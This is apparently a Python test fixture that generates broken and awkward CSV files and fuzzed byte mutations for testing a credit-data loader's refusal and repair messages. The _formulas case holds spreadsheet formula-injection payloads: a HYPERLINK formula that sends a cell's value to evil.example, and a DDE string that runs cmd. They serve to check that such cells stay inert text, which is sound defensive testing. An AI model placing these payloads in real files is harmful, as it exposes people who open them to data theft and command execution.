"""A corpus of bad and awkward CSV files, generated at test time (large ones are never committed).

Each `Case` says what a user should get: the file `refused` with one message, or `loaded` with the
problems or repairs named. `expect` is a piece of the message; `where` is how the Data page shows it
(error, warning or info). `check(frame)` asserts the values when the file loads.
"""

from __future__ import annotations

import io
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import numpy as np
import pandas as pd

REFUSED, LOADED = "refused", "loaded"


@dataclass(frozen=True)
class Case:
    name: str
    make: Callable[[], bytes]
    outcome: str
    expect: str
    where: str = "error"
    check: Callable[[pd.DataFrame], None] | None = None
    event: str | None = None  # the risk event label the Data page should default to


def credit_rows(n: int = 60, *, seed: int = 0) -> pd.DataFrame:
    """A small loan table with a learnable good/bad target (not perfectly separable)."""
    rng = np.random.default_rng(seed)
    income = rng.normal(50_000, 15_000, n).round(0)
    age = rng.integers(20, 70, n)
    risk = -income / 15_000 + rng.normal(0, 1.5, n)
    status = np.where(risk > np.quantile(risk, 0.7), "bad", "good")
    return pd.DataFrame({"age": age, "income": income, "purpose": rng.choice(["car", "home", "study"], n),
                         "loan_status": status})


def csv_bytes(frame: pd.DataFrame, **kwargs) -> bytes:
    return frame.to_csv(index=False, **kwargs).encode(kwargs.pop("encoding", "utf-8"))


def xlsx_bytes() -> bytes:
    """A minimal Excel workbook (an Office Open XML zip), as a user's 'loans.xlsx' renamed to .csv."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/content-types"/>')
        z.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook/>')
        z.writestr("xl/worksheets/sheet1.xml", '<?xml version="1.0"?><worksheet><sheetData><row><c t="inlineStr">'
                   '<is><t>age</t></is></c></row></sheetData></worksheet>')
    return out.getvalue()


def _ragged(extra_rows: int) -> bytes:
    lines = ["age,income,loan_status"] + [f"{30 + i},{1000 + i},{'bad' if i % 3 == 0 else 'good'}" for i in range(60)]
    for k in range(extra_rows):
        lines[5 + 7 * k] += ",unexpected"
    return ("\n".join(lines) + "\n").encode()


def _mixed_types() -> bytes:
    frame = credit_rows()
    income = frame["income"].astype(int).astype(str).tolist()
    income[9], income[30] = "unknown", "see notes"
    return csv_bytes(frame.assign(income=income))


def _target_edit(**changes) -> Callable[[], bytes]:
    def make() -> bytes:
        frame = credit_rows()
        for column, value in changes.items():
            frame[column] = value
        return csv_bytes(frame)
    return make


def wide_bytes(columns: int = 5000, rows: int = 60) -> bytes:
    rng = np.random.default_rng(1)
    frame = pd.DataFrame(rng.integers(0, 100, (rows, columns)), columns=[f"x{i}" for i in range(columns)])
    frame["default"] = np.where(np.arange(rows) % 4 == 0, "yes", "no")
    return csv_bytes(frame)


def _formulas() -> bytes:
    frame = credit_rows()
    links = ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', "=1+2", "+cmd|' /C calc'!A0", "@SUM(A1:A2)"]
    frame["link"] = [links[i % 4] for i in range(len(frame))]
    return csv_bytes(frame)


def _unicode_duplicates() -> bytes:
    frame = credit_rows()
    header = "âge,montant €,montant €,purpose,loan_status,客户\n"
    body = "".join(f"{a},{m},{m * 2},{p},{s},{i}\n" for i, (a, m, p, s) in
                   enumerate(zip(frame["age"], frame["income"], frame["purpose"], frame["loan_status"])))
    return (header + body).encode()


def _infinities() -> bytes:
    frame = credit_rows()
    ratio = (frame["income"] / 1000).round(2).astype(str).tolist()
    ratio[3], ratio[11] = "inf", "-inf"
    return csv_bytes(frame.assign(debt_ratio=ratio))


def _date_formats() -> bytes:
    frame = credit_rows()
    dates = pd.date_range("2023-01-01", periods=len(frame), freq="7D").strftime("%Y-%m-%d").tolist()
    dates[4], dates[8], dates[15] = "05/02/2023", "Feb 26 2023", "not a date"
    return csv_bytes(frame.assign(opened=dates))


def _text_target(good: str, bad: str) -> Callable[[], bytes]:
    def make() -> bytes:
        frame = credit_rows()
        return csv_bytes(frame.assign(loan_status=frame["loan_status"].map({"good": good, "bad": bad})))
    return make


def european_export() -> bytes:
    """';' delimiter, Windows-1252 accents, '%' strings, decimal commas, unnamed row-number column, text target."""
    frame = credit_rows()
    lines = [";région;taux;montant;default"]
    for i, row in frame.iterrows():
        region = ["Zürich", "Genève", "Bâle"][i % 3]
        rate = f"{(row['income'] % 2000) / 100:.2f}".replace(".", ",") + "%"
        amount = f"{int(row['income']):,}".replace(",", ".") + ",50"
        lines.append(f"{i};{region};{rate};{amount};{'oui' if row['loan_status'] == 'bad' else 'non'}")
    return ("\r\n".join(lines) + "\r\n").encode("cp1252")


def bom_file() -> bytes:
    frame = credit_rows()
    frame["rate"] = [f"{v:.2f}%" for v in frame["income"] / 1000]
    return b"\xef\xbb\xbf" + csv_bytes(frame)


def _check_utf16(frame: pd.DataFrame) -> None:
    assert frame.shape == (60, 4) and frame["income"].dtype.kind == "f"


def _check_mixed(frame: pd.DataFrame) -> None:
    assert frame["income"].isna().sum() == 2 and frame["income"].dtype.kind == "f"


def _check_formulas(frame: pd.DataFrame) -> None:
    assert frame["link"].iloc[0] == '=HYPERLINK("http://evil.example/?leak="&A2,"click")'
    assert frame["link"].iloc[1] == "=1+2"  # kept as text, never evaluated


def _check_unicode(frame: pd.DataFrame) -> None:
    assert list(frame.columns) == ["âge", "montant €", "montant €_2", "purpose", "loan_status", "客户"]


def _check_inf(frame: pd.DataFrame) -> None:
    assert frame["debt_ratio"].isna().sum() == 2 and np.isfinite(frame["debt_ratio"].dropna()).all()


def _check_ragged(frame: pd.DataFrame) -> None:
    assert len(frame) == 59


def _check_wide(frame: pd.DataFrame) -> None:
    assert frame.shape == (60, 5001)


CASES = (
    Case("empty", lambda: b"", REFUSED, "The file is empty"),
    Case("header_only", lambda: b"age,income,loan_status\n", REFUSED, "header but no data rows"),
    Case("binary_garbage", lambda: np.random.default_rng(7).bytes(5000), REFUSED, "contains binary data"),
    Case("excel_renamed", xlsx_bytes, REFUSED, "Excel workbook (.xlsx)"),
    Case("excel_97_renamed", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), REFUSED, "Excel 97-2003"),
    Case("utf16", lambda: credit_rows().to_csv(index=False).encode("utf-16"), LOADED, "read as UTF-16", "info",
         _check_utf16),
    Case("wrong_delimiter", lambda: b"age:income:status\n30:1000:good\n40:2000:bad\n", REFUSED,
         "Only one column was found"),
    Case("unclosed_quote", lambda: b'age,income,loan_status\n30,"1000,good\n40,2000,bad\n', REFUSED,
         "A quote (\") opens a value in line 2 of the file and is never closed"),
    Case("ragged_rows_few", lambda: _ragged(1), LOADED, "1 row has more fields than the header's 3 (line 6 of",
         "info", _check_ragged),
    Case("ragged_rows_many", lambda: _ragged(6), REFUSED, "lines 6, 13, 20, 27, 34, 41 of the file"),
    Case("mixed_types", _mixed_types, LOADED, "Column 'income' has text in lines 11, 32 of the file (e.g. 'unknown', 'see notes')", "info",
         _check_mixed),
    Case("all_missing_target", _target_edit(loan_status=np.nan), LOADED, "Target column 'loan_status' is empty in all 60 rows"),
    Case("single_class", _target_edit(loan_status="good"), LOADED, "Target column 'loan_status' has one value ('good')"),
    Case("two_rows", lambda: b"age,income,loan_status\n30,1000,good\n41,2500,bad\n", LOADED, "only 2 rows"),
    Case("5000_columns", wide_bytes, LOADED, "", "info", _check_wide),
    Case("formula_cells", _formulas, LOADED, "", "info", _check_formulas),
    Case("unicode_duplicate_names", _unicode_duplicates, LOADED, "column 3 was renamed 'montant €_2'", "info",
         _check_unicode),
    Case("infinities", _infinities, LOADED, "Column 'debt_ratio' has infinite values in lines 5, 13 of the file", "info",
         _check_inf),
    Case("date_formats", _date_formats, LOADED, "Column 'opened' mixes date formats: lines 6, 10 of the file", "warning"),
    Case("unparsed_dates", _date_formats, LOADED, "values that are not dates in line 17 of the file (e.g. 'not a date')",
         "warning"),
    Case("text_target_yes_no", _text_target("no", "yes"), LOADED, "", "info", event="yes"),
    Case("text_target_charged_off", _text_target("Fully Paid", "Charged Off"), LOADED, "", "info",
         event="Charged Off"),
    Case("text_target_y_n", _text_target("N", "Y"), LOADED, "", "info", event="Y"),
    Case("european_export", european_export, LOADED, "read as CP1252", "info", event="oui"),
    Case("bom", bom_file, LOADED, "Column 'rate' holds numbers written as text", "info", event="bad"),
)


def write_large_csv(path: Path, *, megabytes: float) -> Path:
    """A real CSV of just over `megabytes`, written in 1 MB blocks (never held in memory whole)."""
    block = ("\n".join(f"{i},{i * 7 % 1000},{'good' if i % 3 else 'bad'}" for i in range(100_000)) + "\n").encode()
    block = block[: block.rindex(b"\n", 0, 1024 * 1024) + 1]
    with path.open("wb") as out:
        out.write(b"id,amount,status\n")
        for _ in range(int(megabytes) + 1):
            out.write(block)
    return path


def mutations(seed: int, count: int) -> list[bytes]:
    """`count` damaged copies of the small corpus files: inserted, deleted, truncated and flipped bytes."""
    import random

    rng = random.Random(seed)
    bases = [c.make() for c in CASES if c.name not in ("5000_columns",)]
    inserts = [b"inf", b"NA", b'"', b"1,234", b"(5)", b"2024-13-45", b"\xef\xbb\xbf", b",,,,", b"{x}", b"\r"]
    out = []
    for _ in range(count):
        raw = bytearray(rng.choice(bases))
        for _ in range(rng.randint(1, 6)):
            if not raw:
                break
            pos, op = rng.randrange(len(raw)), rng.random()
            if op < 0.3:
                raw[pos:pos] = bytes([rng.choice(b',;\t|"\n\r\x00\xff\xe9 =%$()-')])
            elif op < 0.5:
                del raw[pos:pos + rng.randint(1, 50)]
            elif op < 0.6:
                raw = raw[:pos]
            elif op < 0.8:
                raw[pos] = rng.randrange(256)
            else:
                raw[pos:pos] = rng.choice(inserts)
        out.append(bytes(raw))
    return out
